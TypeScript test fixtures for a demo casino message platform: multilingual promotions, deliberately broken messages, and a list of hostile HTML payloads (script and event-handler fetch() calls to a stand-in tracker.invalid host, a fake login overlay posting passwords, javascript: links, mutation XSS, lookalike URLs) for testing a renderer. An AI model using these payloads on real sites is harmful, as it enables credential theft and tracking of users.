/** The languages of the demo platform; `he` is written from right to left. */
export const languages = ['en', 'de', 'pt', 'he'] as const

/** A language of the demo platform. */
export type Language = (typeof languages)[number]

/** A message in all languages; `{picture}`, `{amount}` and `{game}` are filled in, `{{…}}` its sender forgot. */
export type Message = Readonly<Record<Language, string>>

/** Ordinary messages. */
export const messages: readonly Message[] = [
  {
    en: '<h2>Your weekend reload is here</h2><p>Top up before Sunday night and get <b>50&nbsp;% extra</b>, up to {amount}.</p><p><a href="https://casino.example/en/promo/reload">See the terms</a></p>',
    de: '<h2>Dein Wochenendbonus ist da</h2><p>Zahle bis Sonntagabend ein und erhalte <b>50&nbsp;% extra</b>, bis zu {amount}.</p><p><a href="https://casino.example/de/promo/reload">Bedingungen ansehen</a></p>',
    pt: '<h2>O seu bónus de fim de semana chegou</h2><p>Deposite até domingo à noite e receba <b>mais 50&nbsp;%</b>, até {amount}.</p><p><a href="https://casino.example/pt/promo/reload">Ver os termos</a></p>',
    he: '<h2>בונוס סוף השבוע שלך כאן</h2><p>הפקידו עד יום ראשון בלילה וקבלו <b>50% נוספים</b>, עד {amount}.</p><p><a href="https://casino.example/he/promo/reload">לתנאים המלאים</a></p>'
  },
  {
    en: '<h2>25 free spins on {game}</h2><p><img src="{picture}" alt="{game}" width="320"></p><p>They wait for you until tomorrow. Winnings carry a wager of 35.</p>',
    de: '<h2>25 Freispiele für {game}</h2><p><img src="{picture}" alt="{game}" width="320"></p><p>Sie warten bis morgen auf dich. Gewinne sind 35-mal umzusetzen.</p>',
    pt: '<h2>25 rodadas grátis em {game}</h2><p><img src="{picture}" alt="{game}" width="320"></p><p>Esperam por si até amanhã. Os ganhos têm rollover de 35.</p>',
    he: '<h2>25 סיבובים חינם ב-{game}</h2><p><img src="{picture}" alt="{game}" width="320"></p><p>הם מחכים לך עד מחר. על הזכיות חל תנאי הימור של 35.</p>'
  },
  {
    en: '<p>Your withdrawal of <b>{amount}</b> was approved. It reaches your bank within two working days.</p>',
    de: '<p>Deine Auszahlung von <b>{amount}</b> wurde genehmigt. Sie ist in zwei Werktagen auf deinem Konto.</p>',
    pt: '<p>O seu levantamento de <b>{amount}</b> foi aprovado. Chega ao seu banco em dois dias úteis.</p>',
    he: '<p>בקשת המשיכה שלך על סך <b>{amount}</b> אושרה. הכסף יגיע לבנק תוך שני ימי עסקים.</p>'
  },
  {
    en: '<h3>We need one more document</h3><p>Please send us:</p><ul><li>a proof of address, not older than three months</li><li>a photo of your card, middle digits covered</li></ul>',
    de: '<h3>Wir brauchen noch ein Dokument</h3><p>Bitte schicke uns:</p><ul><li>einen Adressnachweis, höchstens drei Monate alt</li><li>ein Foto deiner Karte, mittlere Ziffern verdeckt</li></ul>',
    pt: '<h3>Precisamos de mais um documento</h3><p>Envie-nos, por favor:</p><ul><li>um comprovativo de morada com menos de três meses</li><li>uma foto do cartão com os dígitos do meio tapados</li></ul>',
    he: '<h3>נדרש מסמך נוסף</h3><p>אנא שלחו לנו:</p><ul><li>אישור כתובת משלושת החודשים האחרונים</li><li>צילום הכרטיס כשהספרות האמצעיות מוסתרות</li></ul>'
  },
  {
    en: '<h2>New this week: {game}</h2><p>Five reels, a river and a very patient heron. <i>Play it first.</i></p>',
    de: '<h2>Neu diese Woche: {game}</h2><p>Fünf Walzen, ein Fluss und ein sehr geduldiger Reiher. <i>Spiel es zuerst.</i></p>',
    pt: '<h2>Novidade da semana: {game}</h2><p>Cinco rolos, um rio e uma garça muito paciente. <i>Jogue primeiro.</i></p>',
    he: '<h2>חדש השבוע: {game}</h2><p>חמישה גלילים, נהר אחד ואנפה סבלנית מאוד. <i>שחקו ראשונים.</i></p>'
  },
  {
    en: '<p>You reached level <strong>Silver</strong>. Your weekly cashback is now <strong>7&nbsp;%</strong>.</p><table border="1"><tr><th>Level</th><th>Cashback</th></tr><tr><td>Bronze</td><td>5 %</td></tr><tr><td>Silver</td><td>7 %</td></tr></table>',
    de: '<p>Du hast die Stufe <strong>Silber</strong> erreicht. Dein Cashback beträgt nun <strong>7&nbsp;%</strong>.</p><table border="1"><tr><th>Stufe</th><th>Cashback</th></tr><tr><td>Bronze</td><td>5 %</td></tr><tr><td>Silber</td><td>7 %</td></tr></table>',
    pt: '<p>Chegou ao nível <strong>Prata</strong>. O seu cashback semanal é agora de <strong>7&nbsp;%</strong>.</p><table border="1"><tr><th>Nível</th><th>Cashback</th></tr><tr><td>Bronze</td><td>5 %</td></tr><tr><td>Prata</td><td>7 %</td></tr></table>',
    he: '<p>הגעת לדרגת <strong>כסף</strong>. ההחזר השבועי שלך הוא כעת <strong>7%</strong>.</p><table border="1"><tr><th>דרגה</th><th>החזר</th></tr><tr><td>ארד</td><td>5%</td></tr><tr><td>כסף</td><td>7%</td></tr></table>'
  },
  {
    en: '<p>Maintenance tonight from 03:00 to 04:00 UTC. Rounds in play are kept.</p>',
    de: '<p>Wartung heute Nacht von 03:00 bis 04:00 UTC. Laufende Runden bleiben erhalten.</p>',
    pt: '<p>Manutenção esta noite das 03:00 às 04:00 UTC. As rondas em curso são guardadas.</p>',
    he: '<p>תחזוקה הלילה בין 03:00 ל-04:00 (UTC). סיבובים פתוחים נשמרים.</p>'
  },
  {
    en: '<h2 style="color:#7048e8">Jackpot fever</h2><p>The <b>mega</b> pool passed {amount}. Somebody has to win it – <a href="https://casino.example/en/jackpots">see the games</a>.</p>',
    de: '<h2 style="color:#7048e8">Jackpotfieber</h2><p>Der <b>Mega</b>-Topf hat {amount} überschritten. Irgendwer muss ihn gewinnen – <a href="https://casino.example/de/jackpots">zu den Spielen</a>.</p>',
    pt: '<h2 style="color:#7048e8">Febre do jackpot</h2><p>O prémio <b>mega</b> passou {amount}. Alguém tem de o ganhar – <a href="https://casino.example/pt/jackpots">ver os jogos</a>.</p>',
    he: '<h2 style="color:#7048e8">קדחת הג׳קפוט</h2><p>קופת ה-<b>מגה</b> עברה את {amount}. מישהו חייב לזכות – <a href="https://casino.example/he/jackpots">למשחקים</a>.</p>'
  },
  {
    en: '<p>Hello! Your cashback of {amount} is on your bonus balance. It is valid for seven days.</p>',
    de: '<p>Hallo! Dein Cashback von {amount} liegt auf deinem Bonusguthaben. Es gilt sieben Tage.</p>',
    pt: '<p>Olá! O seu cashback de {amount} está no saldo de bónus. É válido por sete dias.</p>',
    he: '<p>שלום! ההחזר שלך על סך {amount} נמצא ביתרת הבונוס. תקף לשבעה ימים.</p>'
  },
  {
    en: '<p>You asked for a reminder: you have been playing for an hour. <a href="https://casino.example/en/limits">Set a limit</a> or take a break.</p>',
    de: '<p>Du wolltest erinnert werden: Du spielst seit einer Stunde. <a href="https://casino.example/de/limits">Limit setzen</a> oder Pause machen.</p>',
    pt: '<p>Pediu um lembrete: está a jogar há uma hora. <a href="https://casino.example/pt/limits">Defina um limite</a> ou faça uma pausa.</p>',
    he: '<p>ביקשת תזכורת: שיחקת במשך שעה. <a href="https://casino.example/he/limits">הגדירו מגבלה</a> או צאו להפסקה.</p>'
  }
]

/** Messages with mistakes: forgotten placeholders, links that differ in one language, an empty translation. */
export const carelessMessages: readonly Message[] = [
  {
    en: '<p>Hi {{first_name}}, your gift of {{amount}} {{currency}} is waiting.</p>',
    de: '<p>Hallo {{first_name}}, dein Geschenk über {{amount}} {{currency}} wartet.</p>',
    pt: '<p>Olá {{first_name}}, o seu presente de {{amount}} está à espera.</p>',
    he: '<p>שלום %USERNAME%, המתנה שלך מחכה.</p>'
  },
  {
    en: '<p>Our terms have changed. <a href="https://casino.example/en/terms">Read them</a></p>',
    de: '<p>Unsere Bedingungen haben sich geändert. <a href="https://casino.example/en/terms">Lies sie</a></p>',
    pt: '<p>Os nossos termos mudaram. <a href="https://casino-old.example/pt/termos">Leia-os</a></p>',
    he: ''
  },
  {
    en: '<p>Unclosed <b>bold, <i>crossed</b> tags</i> &amp; entities &lt;like&gt; these &euro;5',
    de: 'Reiner Text ohne jedes Element & mit einem nackten Und',
    pt: '<div><div><div><p>Muito aninhado</p></div></div>',
    he: '<p dir="ltr">טקסט עברי שסומן בטעות משמאל לימין</p>'
  }
]

// Addresses end in .invalid, which never resolves (RFC 6761): a successful attack still reaches no host.
const tracker = 'https://tracker.invalid'

/** Contents that a careless screen would run, load or follow. Each has readable text beside its attack. */
export const hostileHtml: readonly string[] = [
  `<p>Your prize is ready.</p><script>parent.document.title = 'owned'; fetch('${tracker}/script')</script>`,
  `<p>Look at this picture.</p><img src="${tracker}/open.gif?player=1" width="1" height="1" onerror="fetch('${tracker}/onerror')">`,
  `<style>@import url('${tracker}/import.css'); body { background: url('${tracker}/background.png') } p::after { content: url('${tracker}/after.png') }</style><p>A styled message.</p>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff"><h1>Session expired</h1><form action="${tracker}/login" method="post"><input name="password" type="password" autofocus onfocus="this.form.submit()"><button>Sign in</button></form></div>`,
  `<p>Claim it <a href="javascript:alert(document.domain)">here</a>, <a href="data:text/html,<script>alert(1)</script>">here</a> or <a href="https://casino.example@tracker.invalid/login">here</a>.</p>`,
  `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80" onload="fetch('${tracker}/svg')"><image href="${tracker}/svg-image.png"/><a href="javascript:alert(1)"><text y="40">Win</text></a></svg><p>An animated gift.</p>`,
  `<meta http-equiv="refresh" content="0;url=${tracker}/refresh"><base href="${tracker}/"><link rel="stylesheet" href="${tracker}/link.css"><p>Please wait…</p>`,
  `<iframe src="${tracker}/frame" srcdoc="<script>top.location='${tracker}/top'</script>"></iframe><object data="${tracker}/object"></object><embed src="${tracker}/embed"><p>Play the trailer.</p>`,
  `<video autoplay poster="${tracker}/poster.jpg" src="${tracker}/video.mp4"></video><audio src="${tracker}/audio.mp3" autoplay></audio><p>Listen to this.</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mutated markup.</p>`,
  `<p>Pay to \u202Elagel.oniscac\u202C today.</p><a href="https://xn--csino-3ve.example/">https://casino.example/</a><a href="smb://tracker.invalid/share">share</a>`,
  `<details open ontoggle="fetch('${tracker}/toggle')"><summary>More</summary>${'<b>'.repeat(400)}deep${'</b>'.repeat(400)}</details>`
]
